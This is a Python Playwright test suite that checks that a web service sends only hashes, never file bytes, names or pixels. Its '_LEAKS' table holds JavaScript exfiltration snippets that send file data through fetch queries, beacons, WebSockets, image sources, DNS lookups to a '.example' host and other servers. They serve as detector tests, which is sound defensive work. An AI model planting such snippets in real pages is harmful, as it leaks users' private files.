"""Only hashes leave the device: of all that the browser sends, nothing shows a file."""

from __future__ import annotations

import base64
import io
import socket
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import av
import numpy as np
import pytest
from PIL import Image
from PIL.ExifTags import Base
from playwright.sync_api import Page, Playwright, Route

from benchmarks.harness.videos import Codec, encode
from tests.web.browser import leaving_bytes
from tests.web.browser.chromium import chromium
from tests.web.browser.leaving_bytes import Secrets, Traffic
from tests.web.browser.person import Person, file
from tests.web.browser.site import Site
from tests.web.pictures import file_of, noisy
from tests.web.running import ANSWERS, HOST, raw_request
from tests.web.videos.files import with_alpha

NAME = "vacances-a-la-mer.jpg"
CAMERA = "Appareil de Camille 12345"


def _pixels(image: Image.Image) -> list[bytes]:
    """Return pixels in the orders in which programs hold them."""
    return [image.convert(mode).tobytes() for mode in ("RGB", "RGBA", "L")]


def _picture(kind: str) -> tuple[bytes, list[bytes]]:
    """Return a file with EXIF, and its pixels."""
    exif = Image.Exif()
    exif[Base.Model] = CAMERA
    data = file_of(noisy(18, 640, 480), kind, quality=90, exif=exif)
    return data, _pixels(Image.open(io.BytesIO(data)))


def _frames(data: bytes) -> list[bytes]:
    """Return the luma of each frame of a video, and its pixels."""
    with av.open(io.BytesIO(data), "r") as video:
        frames = list(video.decode(video=0))
    luma = [bytes(frame.planes[0]) for frame in frames]
    images = [Image.fromarray(frame.to_ndarray(format="rgb24")) for frame in frames]
    return luma + [part for image in images for part in _pixels(image)]


FILE, PIXELS = _picture("JPEG")
SECRETS = Secrets([FILE, *PIXELS])


@pytest.fixture(scope="module")
def kinds() -> dict[str, list[bytes]]:
    """Return what libraries, WebCodecs and the video element decode: files, then their pixels."""
    shown = [noisy(seed, 320, 240) for seed in range(8)]
    opaque = [np.dstack([pixels, np.full((240, 320), 255, np.uint8)]) for pixels in shown]
    heic, pixels = _picture("HEIF")
    mp4 = encode(shown, fps=8, codec=Codec(options={"preset": "ultrafast", "crf": "10"}))
    webm = with_alpha(opaque, period_ms=125)
    return {
        "plage.heic": [heic, *pixels],
        "soiree.mp4": [mp4, *_frames(mp4)],
        "danse.webm": [webm, *_frames(webm)],
    }


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return tmp_path / "net.json"


@contextmanager
def watched(driver: Playwright, log: Path, *, without_policy: bool = False) -> Iterator[Page]:
    """Open a page of a browser of its own, which logs all that it sends."""
    unknown = ", ".join(f"MAP {name} ~NOTFOUND" for name in leaving_bytes.OWN_NAMES)
    options = (f"--log-net-log={log}", "--net-log-capture-mode=Everything")
    browser = chromium(driver, *options, f"--host-resolver-rules={unknown}")
    context = browser.new_context(bypass_csp=without_policy)
    yield context.new_page()
    context.close()
    browser.close()


def _faults(
    traffic: Traffic, site: Site, secrets: Secrets = SECRETS, names: Iterable[str] = (NAME, CAMERA)
) -> set[str]:
    assert traffic.streams
    return leaving_bytes.faults(traffic, urlsplit(site.url).netloc, secrets, names)


def test_across_a_submission_and_a_withdrawal_only_hashes_leave(
    driver: Playwright, log: Path, site: Site
) -> None:
    with watched(driver, log) as page:
        person = Person(page, site.url).comes()
        person.registers(file(NAME, FILE), file("notes.txt", b"no picture, and never sent"))
        person.clicks("Voir mon dossier").sees("case")
        person.clicks("Retirer : Image").clicks("Oui, retirer").sees("case")
    assert _faults(leaving_bytes.read(log), site) == set()


def test_across_a_submission_of_videos_and_of_a_heic_picture_only_hashes_leave(
    driver: Playwright, log: Path, site: Site, kinds: dict[str, list[bytes]]
) -> None:
    with watched(driver, log) as page:
        person = Person(page, site.url).comes()
        person.registers(*(file(name, data) for name, (data, *_) in kinds.items()))
        person.reads("3 fichiers sont enregistrés")
    traffic = leaving_bytes.read(log)
    secrets = Secrets(content for contents in kinds.values() for content in contents)
    assert _faults(traffic, site, secrets, [*kinds, CAMERA]) == set()
    assert any(b"GET /vendor/libheif" in sent for sent in traffic.everything)


def test_while_a_case_is_kept_only_hashes_leave(driver: Playwright, log: Path, site: Site) -> None:
    with watched(driver, log) as page:
        person = Person(page, site.url).comes()
        number, pin = person.registers(file(NAME, FILE))
        site.asks_erasure(number)
        person.clicks("Terminer").sees("welcome").opens(number, pin).sees("case")
        person.clicks("Garder le dossier").reads("Garder ce dossier").clicks("Garder le dossier")
        person.sees("case").reads("le service n'effacera pas ce dossier")
    traffic = leaving_bytes.read(log)
    assert _faults(traffic, site) == set()
    assert any(b"POST /v1/KeepCase" in sent for sent in traffic.everything)


_LEAKS = {
    "query": ("fetch('/?' + text)", "bytes of a file"),
    "path": ("fetch('/' + text)", "bytes of a file"),
    "body": ("fetch('/v1/GetCase', {method: 'POST', body: bytes})", "bytes of a file"),
    "body in base64": ("fetch('/v1/GetCase', {method: 'POST', body: text})", "bytes of a file"),
    "header": ("fetch('/', {headers: {'X-Note': text}})", "bytes of a file"),
    "unknown header": ("fetch('/', {headers: {'X-Note': 'a'}})", "headers"),
    "known header": ("fetch('/', {headers: {'Content-Type': text}})", "bytes of a file"),
    "beacon": ("navigator.sendBeacon('/', bytes)", "bytes of a file"),
    "query without a file": ("fetch('/?a')", "requests"),
    "socket": (
        """new Promise((resolve) => {
            const socket = new WebSocket(location.origin.replace('http', 'ws') + '/?' + text);
            socket.onerror = socket.onclose = resolve;
        })""",
        "bytes of a file",
    ),
    "picture": (
        """new Promise((resolve) => {
            const picture = new Image();
            picture.onerror = resolve;
            picture.src = '/?' + text;
        })""",
        "bytes of a file",
    ),
    "file name": ("fetch('/' + name)", "name of a file"),
    "name looked up": ("fetch('http://' + hex + '.example').catch(() => 0)", "names looked up"),
    "other server": (
        "fetch('http://127.0.0.2:8/', {mode: 'no-cors'}).catch(() => 0)",
        "other addresses",
    ),
}
"""Scripts that let a file out, each in a way of its own, and the fault that each is."""

_GIVEN = """
const bytes = Uint8Array.from(atob(text), (character) => character.charCodeAt(0));
const hex = Array.from(bytes.slice(0, 16), (byte) => byte.toString(16).padStart(2, '0')).join('');
"""


def _sabotage(page: Page, way: str) -> None:
    # Without + and /, which some ways would escape.
    pieces = (base64.b64encode(FILE[at : at + 48]).decode() for at in range(2000, len(FILE), 3))
    text = next(piece for piece in pieces if piece.isalnum())
    page.evaluate(f"async ([text, name]) => {{ {_GIVEN} await {_LEAKS[way][0]}; }}", [text, NAME])


@pytest.mark.parametrize("way", _LEAKS)
def test_a_leak_is_found(driver: Playwright, log: Path, site: Site, way: str) -> None:
    """The sabotage twins: without the page's policy, each way lets something out."""
    with watched(driver, log, without_policy=True) as page:
        Person(page, site.url).comes()
        _sabotage(page, way)
    assert _LEAKS[way][1] in _faults(leaving_bytes.read(log), site)


def test_pixels_of_a_frame_that_leave_are_found(
    driver: Playwright, log: Path, site: Site, kinds: dict[str, list[bytes]]
) -> None:
    secrets = [content for contents in kinds.values() for content in contents]
    luma = kinds["danse.webm"][1]
    with watched(driver, log, without_policy=True) as page:
        Person(page, site.url).comes()
        send = "(bytes) => fetch('/v1/KeepCase', {method: 'POST', body: Uint8Array.from(bytes)})"
        page.evaluate(send, list(luma[5000:5048]))
    traffic = leaving_bytes.read(log)
    assert "bytes of a file" in _faults(traffic, site, Secrets(secrets))
    assert "bytes of a file" not in _faults(traffic, site)


def test_sixteen_bytes_of_any_secret_are_found_and_fifteen_are_not(
    kinds: dict[str, list[bytes]],
) -> None:
    for data, *pixels in kinds.values():
        for content in (data, *pixels[:2]):
            secrets = Secrets([content])
            run = content[1001:1019]
            for sent in (run[:16], base64.b64encode(run), base64.urlsafe_b64encode(run)):
                assert secrets.are_in([b"", b"GET /?" + sent])
            assert not secrets.are_in([run[:15], run[:15] + b"\0" + run[16:]])


@pytest.mark.parametrize("call", ANSWERS)
def test_more_than_its_message_is_found_in_each_call(call: str) -> None:
    for body, faults in ((b"", set()), (UNKNOWN_FIELD, {"messages"})):
        traffic = Traffic(streams={1: bytearray(raw_request(call, body))})
        assert leaving_bytes.faults(traffic, "", Secrets([]), []) == faults


def test_a_datagram_is_found(driver: Playwright, log: Path, site: Site) -> None:
    ask = """async (port) => {
        window.peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
        window.peer.createDataChannel('');
        await window.peer.setLocalDescription();
    }"""
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with receiver, watched(driver, log, without_policy=True) as page:
        receiver.bind((HOST, 0))
        Person(page, site.url).comes()
        page.evaluate(ask, receiver.getsockname()[1])
        receiver.recv(2048)
    assert "datagrams" in _faults(leaving_bytes.read(log), site)


@pytest.mark.parametrize("way", ["name looked up", "other server"])
def test_the_policy_keeps_scripts_from_other_servers(
    driver: Playwright, log: Path, site: Site, way: str
) -> None:
    with watched(driver, log) as page:
        Person(page, site.url).comes()
        _sabotage(page, way)
    assert _faults(leaving_bytes.read(log), site) == set()


UNKNOWN_FIELD = bytes([0x7A, 3]) + b"abc"

_TAMPERINGS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "unknown field": (lambda body: body + UNKNOWN_FIELD, "messages"),
    "padding": (lambda body: body + bytes([0x12, 0]) * 20_000, "sizes"),
    "field written twice": (lambda body: body + body, "messages"),
}
"""Changes of a registration, and the fault that each is."""


@pytest.mark.parametrize("change", _TAMPERINGS)
def test_more_in_a_message_is_found(driver: Playwright, log: Path, site: Site, change: str) -> None:
    tamper, fault = _TAMPERINGS[change]

    def send_more(route: Route) -> None:
        route.continue_(post_data=tamper(route.request.post_data_buffer or b""))

    with watched(driver, log) as page:
        person = Person(page, site.url).comes()
        person.says_age().chooses(file(NAME, FILE)).is_ready().goes_to_send()
        page.route("**/v1/RegisterHashes", send_more)
        person.clicks("Envoyer").reads("est modifié en chemin")
    assert fault in _faults(leaving_bytes.read(log), site)
